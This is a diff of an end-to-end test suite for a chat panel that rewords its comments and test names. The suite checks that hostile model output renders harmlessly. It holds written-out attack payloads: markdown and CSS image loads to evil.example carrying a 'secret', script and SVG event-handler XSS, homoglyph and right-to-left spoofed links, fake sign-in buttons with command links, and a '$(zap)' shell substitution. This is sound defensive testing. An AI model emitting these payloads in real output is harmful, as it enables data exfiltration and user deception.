@@ -1,4 +1,4 @@
-/** What a model may say to harm its reader, in the real panel: nothing is asked of the network, nothing runs, all of it is text. */
+/** Harmful text from a model, in the real panel: it causes no network request, runs nothing, and is shown as text. */
 import assert from 'node:assert/strict';
 import { writeFileSync } from 'node:fs';
 import path from 'node:path';
@@ -12,9 +12,9 @@ const RLO = '\u202e';
 describe('hostile text in the chat', () => {
   let world: World;
   let chat: FrameLocator;
-  /** What the browser was to ask anybody but the workbench. */
+  /** Requests of the browser to other hosts than the workbench. */
   const asked: string[] = [];
-  /** What the content security policy has refused. */
+  /** Reports about violations of the content security policy. */
   const refused: string[] = [];
   let said = 0;
 
@@ -49,7 +49,7 @@ describe('hostile text in the chat', () => {
     assert.deepEqual(asked, []);
     assert.deepEqual(refused, []);
     assert.equal(await chat.locator('body').getAttribute('data-refused'), null);
-    // No command has run: what commands would open is not there.
+    // No command has run: neither an editor, a terminal, a dialog nor a quick input was opened.
     assert.equal(await world.ui.page.locator('.tabs-container .tab').count(), 1);
     assert.equal(await world.ui.page.locator('.terminal-wrapper, .monaco-dialog-box').count(), 0);
     assert.equal(await world.ui.inputWidget.isVisible(), false);
@@ -60,7 +60,7 @@ describe('hostile text in the chat', () => {
   const last = () => answers().nth(said - 1);
   const body = () => last().locator('.answer-text');
 
-  /** Has the model say this, and waits until all of it is shown. */
+  /** Makes the model answer with this, and waits until all of it is shown. */
   async function hear(...texts: string[]): Promise<void> {
     const events = texts.map((text) => `data: ${JSON.stringify({ choices: [{ delta: { content: text } }] })}\n\n`);
     world.service.faults.add({
@@ -73,7 +73,7 @@ describe('hostile text in the chat', () => {
     await last().locator('.turn-tools').waitFor({ timeout: 60_000 });
   }
 
-  /** Nothing in the answer is of another kind than text is made of. */
+  /** Asserts that the answer contains only elements and attributes of text. */
   async function isText(): Promise<void> {
     const foreign = await body().evaluate((box) => {
       const known =
@@ -91,13 +91,13 @@ describe('hostile text in the chat', () => {
     assert.deepEqual(foreign, []);
   }
 
-  /** Clicks whatever looks as if it led somewhere, without a word of where. */
+  /** Clicks all links that don't lead anywhere. */
   async function clickDeadLinks(): Promise<void> {
     const dead = body().locator('.dead-link, .image');
     for (let at = 0; at < (await dead.count()); at++) await dead.nth(at).click();
   }
 
-  it('shows no image, whatever its form', async () => {
+  it('shows no image, in any syntax', async () => {
     await hear(
       `![inline](${EVIL}/1?d=secret) ![](//evil.example/2) ![by reference][r] ![r] ![titled](${EVIL}/3 "t")\n\n`,
       `[![in a link](${EVIL}/4)](${EVIL}/5)\n\n| a |\n|---|\n| ![cell](${EVIL}/6) |\n\n- ![item](<${EVIL}/7 8>)\n\n`,
@@ -111,7 +111,7 @@ describe('hostile text in the chat', () => {
     await shot(world.ui.page, 'chat-hostile-images');
   });
 
-  it('loads nothing by a style', async () => {
+  it('loads nothing through styles', async () => {
     await hear(
       `<style>body { background: url(${EVIL}/1) } @import "${EVIL}/2"; @font-face { src: url(${EVIL}/3) }</style>\n\n`,
       `<div style="background:url(${EVIL}/4)">a</div> <link rel="stylesheet" href="${EVIL}/5"><link rel=prefetch href="${EVIL}/6">\n\n`,
@@ -143,7 +143,7 @@ describe('hostile text in the chat', () => {
     await clickDeadLinks();
   });
 
-  it('runs nothing of HTML or SVG', async () => {
+  it('runs no script in HTML or SVG', async () => {
     await hear(
       '<script>document.body.remove()</script> <svg onload=alert(1)><animate onbegin=alert(1)></svg> <iframe srcdoc="<script>alert(1)</script>"></iframe>\n\n',
       `<form action="${EVIL}"><button>Send</button><input autofocus onfocus=alert(1)></form> <base href="${EVIL}"> <meta http-equiv=refresh content="0;url=${EVIL}">\n\n`,
@@ -153,7 +153,7 @@ describe('hostile text in the chat', () => {
     assert.match((await body().textContent()) ?? '', /<script>document\.body\.remove\(\)<\/script>/);
   });
 
-  it('says where a link really leads', async () => {
+  it('shows the real host of a link', async () => {
     await hear(
       `[https://google.com](https://g\u043e\u043egle.com/) <https://\u0430pple.com/> [bank.example](https://bank.example@evil.example/)\n\n`,
       `[https://bank.example/${RLO}moc](https://evil.example/a) [https://bank.example\u200b](https://bank.example.evil.example/)`,
@@ -166,7 +166,7 @@ describe('hostile text in the chat', () => {
       'evil.example',
       'bank.example.evil.example',
     ]);
-    // Behind its link, whatever marks of direction that holds.
+    // After its link, even if the link contains bidirectional control characters.
     const places = await body()
       .locator('a')
       .evaluateAll((links) =>
@@ -180,7 +180,7 @@ describe('hostile text in the chat', () => {
     await shot(world.ui.page, 'chat-hostile-links');
   });
 
-  it('lets no answer look like the panel: its buttons, errors and messages are text', async () => {
+  it('shows imitated buttons, errors and messages as text', async () => {
     await hear(
       '<chat-problem></chat-problem><div class="problem" role="alert"><button data-action="signIn">Sign In</button></div>\n\n',
       '> **The service refused the API key.** [Sign In](command:switchyard.signIn)\n\n',
@@ -194,13 +194,13 @@ describe('hostile text in the chat', () => {
     await shot(world.ui.page, 'chat-hostile-imitation');
   });
 
-  it('bears giant tables, endless lines and endless nesting, and stays usable', async () => {
+  it('stays usable with huge tables, long lines and deep nesting', async () => {
     const row = (cell: string) => `|${`${cell}|`.repeat(200)}\n`;
     await hear(row('a') + row('-'), ...Array.from({ length: 100 }, () => row('b')));
     await isText();
     await hear('>'.repeat(5000), `quote\n\n${'- '.repeat(5000)}item\n\n`, `${'['.repeat(5000)}a${']('.repeat(5000)}`);
     await isText();
-    // The last one: no model takes what follows on it.
+    // Must be last: no model accepts a message after such an answer.
     await hear(...Array.from({ length: 10 }, () => 'x'.repeat(100_000)));
     assert.equal((await body().textContent())?.length, 1_000_000);
     await message().fill('still here');
@@ -208,7 +208,7 @@ describe('hostile text in the chat', () => {
     await message().fill('');
   });
 
-  it('shows the names of models, chats and files, and what went wrong, as they are', async () => {
+  it('shows names of models, chats and files, and error messages, as plain text', async () => {
     const evil = `<img src="${EVIL}/name" onerror=alert(1)>[x](command:workbench.action.quit)${RLO}$(zap)`;
     const records = [
       { kind: 'title', text: evil },
@@ -237,13 +237,13 @@ describe('hostile text in the chat', () => {
     await shot(world.ui.page, 'chat-hostile-names');
   });
 
-  it('has a policy without a hole; the witnesses of these tests would have seen one', async () => {
+  it('has a strict content security policy, and these tests detect violations', async () => {
     const policy = await chat.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
     const directives = new Map((policy ?? '').split('; ').map((one) => [one.split(' ')[0], one.split(' ').slice(1)]));
     assert.deepEqual(directives.get('default-src'), ["'none'"]);
     assert.match(directives.get('script-src')?.join(' ') ?? '', /^'nonce-\w{32}'$/);
     assert.doesNotMatch(policy ?? '', /unsafe|https:\s|https:;|\*(?!\.)/);
-    // Absent: images fall under `default-src`, and none are loaded.
+    // No `img-src`: images fall under `default-src`, which blocks them.
     assert.deepEqual(directives.get('img-src') ?? [], []);
     await chat.locator('body').evaluate((element, address) => {
       const image = element.ownerDocument.createElement('img');
@@ -253,7 +253,7 @@ describe('hostile text in the chat', () => {
     }, `${EVIL}/witness`);
     await chat.locator('body[data-refused-image]').waitFor();
     await until('the console to tell', () => refused.some((line) => line.includes('witness')));
-    // The browser tells of what it was to ask before the policy refuses it.
+    // The browser reports a request before the policy blocks it.
     assert.deepEqual(asked, [`${EVIL}/witness`]);
     await chat.locator('body[data-refused*="witness"]').waitFor();
     for (const heard of [asked, refused]) heard.length = 0;
@@ -261,7 +261,7 @@ describe('hostile text in the chat', () => {
   });
 });
 
-/** The workbench, its webviews, and what never leaves the browser. */
+/** True for requests to the workbench and its webviews, and for URLs without a network request. */
 function ofTheWorkbench(address: string, port: number): boolean {
   const { protocol, hostname, port: asked } = new URL(address);
   if (protocol === 'data:' || protocol === 'blob:') return true;
